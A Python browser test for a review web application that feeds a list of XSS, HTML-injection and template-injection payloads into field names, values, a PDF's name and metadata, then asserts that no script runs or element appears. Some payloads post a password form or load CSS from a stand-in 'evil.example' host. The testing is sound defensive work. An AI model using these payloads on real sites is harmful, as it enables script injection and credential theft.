"""Text of others stays text on every screen of a review, whatever it looks like."""

from typing import Any

from tests.documents.making import make_pdf, text
from tests.review.receipts import NONE, add, form_of, take
from tests.review.web.desk import READY, at_desk
from tests.review.web.served import served

from fieldassay.review.sheets import sheets
from fieldassay.review.sheets.make import ReviewRequest, Shares, make_review

CORPUS = (
    "<script>hacked=1</script>",
    "</script><script>hacked=1</script>",
    "<img src=x onerror=hacked=1>",
    "\"><svg onload=hacked=1>",
    "' autofocus onfocus='hacked=1",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "<a href=javascript:hacked=1>here</a>",
    "javascript:hacked=1",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hacked=1>",
    "<noscript><p title=\"</noscript><img src=x onerror=hacked=1>\">",
    "<form action=//evil.example><input name=password>",
    "&lt;img src=x onerror=hacked=1&gt;",
    "{{constructor.constructor('hacked=1')()}} ${hacked=1} <%= 1 %>",
    "\u202egnp.exe\u2066 \u200b\ufeff\u0085\u2028",
    "__proto__",
)  # fmt: skip
ALL = " ".join(CORPUS[:4])
INJECTED = "main :is(script, iframe, object, form:not([method=dialog]), img[src=x], svg, style, math, noscript, a[href^=javascript])"


def spec():
    fields: dict[str, Any] = {f"field {at} {one}"[:60]: "text" for at, one in enumerate(CORPUS)}
    fields["kind"] = {"type": "enum", "values": list(CORPUS[:9])}
    fields["lines"] = {"type": "list", "items": {"type": "object", "fields": {CORPUS[2]: "text"}}}
    return {"name": ALL, "fields": fields}


def row():
    texts = dict(zip(spec()["fields"], CORPUS, strict=False))
    return {
        "id": NAME, **texts, "kind": CORPUS[0], "lines": [{CORPUS[2]: one} for one in CORPUS[:3]]
    }  # fmt: skip


NAME = "<img src=x onerror=hacked=1>\"'"


def documents(folder):
    """Return a folder with a PDF that has the corpus in its name, its text and its metadata."""
    folder.mkdir()
    page = "".join(text(20, 30 + 20 * at, one) for at, one in enumerate(CORPUS) if one.isascii())
    data = make_pdf([page], extra=[f"<< /Title ({ALL}) /Author ({CORPUS[2]}) >>".encode()])
    data = data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Info 4 0 R")
    (folder / f"{NAME}.pdf").write_bytes(data)
    return folder


def check_screen(desk, path, screen, told):
    """Open a screen; the text must be there as text, and nothing of it as an element."""
    desk.page.goto(desk.site.origin + path)
    desk.page.wait_for_selector(f"{READY}[data-screen={screen}]")
    check_harmless(desk)
    assert desk.axe() == [], screen
    assert told in desk.text("main"), screen


def check_harmless(desk):
    assert desk.page.locator(INJECTED).count() == 0
    assert desk.page.evaluate("typeof hacked") == "undefined"
    assert desk.errors == []


def test_hostile_texts_are_text_on_the_sheet(browser, tmp_path):
    folder = documents(tmp_path / "documents")
    store = make_review(
        tmp_path / "review", ReviewRequest(spec(), {"a": [row()]}, documents=folder, shares=NONE)
    ).store
    add(store)
    with served(store) as site, at_desk(browser, site) as desk:
        desk.enter()
        assert CORPUS[0] in desk.text("main")
        check_harmless(desk)
        desk.start()
        for _ in CORPUS:
            desk.press("Enter")
        desk.press("n")
        desk.page.keyboard.type(CORPUS[2])
        desk.press("Enter", "?")
        check_harmless(desk)
        assert NAME in desk.text("main")
        assert len(desk.labels()) >= len(CORPUS)


def test_hostile_texts_are_text_where_people_rule_and_watch(browser, tmp_path):
    folder = documents(tmp_path / "documents")
    blind = Shares(1.0, 0.0, 0.0)
    store = make_review(
        tmp_path / "review", ReviewRequest(spec(), {"a": [row()]}, documents=folder, shares=blind)
    ).store
    form = form_of(store)
    for shift in (0, 1):
        person = add(store, CORPUS[shift], "reviewer")
        sheet = take(store, person)
        assert sheet is not None
        for at, field in enumerate(form.asked_paths):
            said = CORPUS[(at + shift) % len(CORPUS)]
            state: Any = "absent" if field == "lines" else "value"
            one = sheets.LabelAnswer(field, state, said, note=CORPUS[2])
            store.write(lambda log, p=person, s=sheet, one=one: sheets.save_label(log, form, p, s, one))
        store.write(lambda log, p=person, s=sheet: sheets.finish(log, form, p, s))
    add(store, "lena", "lead", "a long password")
    with served(store) as site, at_desk(browser, site) as desk:
        desk.page.goto(site.origin)
        desk.page.wait_for_selector(f"{READY}[data-screen=sign-in]")
        desk.page.keyboard.type("lena")
        desk.press("Tab")
        desk.page.keyboard.type("a long password")
        desk.press("Enter")
        desk.page.wait_for_selector(f"{READY}[data-screen=queue]")
        check_screen(desk, "/", "queue", CORPUS[0])
        check_screen(desk, "/adjudicate", "adjudicate", NAME)
        check_screen(desk, "/adjudicate/1", "ruling", CORPUS[5])
        desk.page.locator("fieldset").nth(1).locator("button", has_text="A: ").click()
        check_harmless(desk)
        check_screen(desk, "/progress", "progress", CORPUS[1])
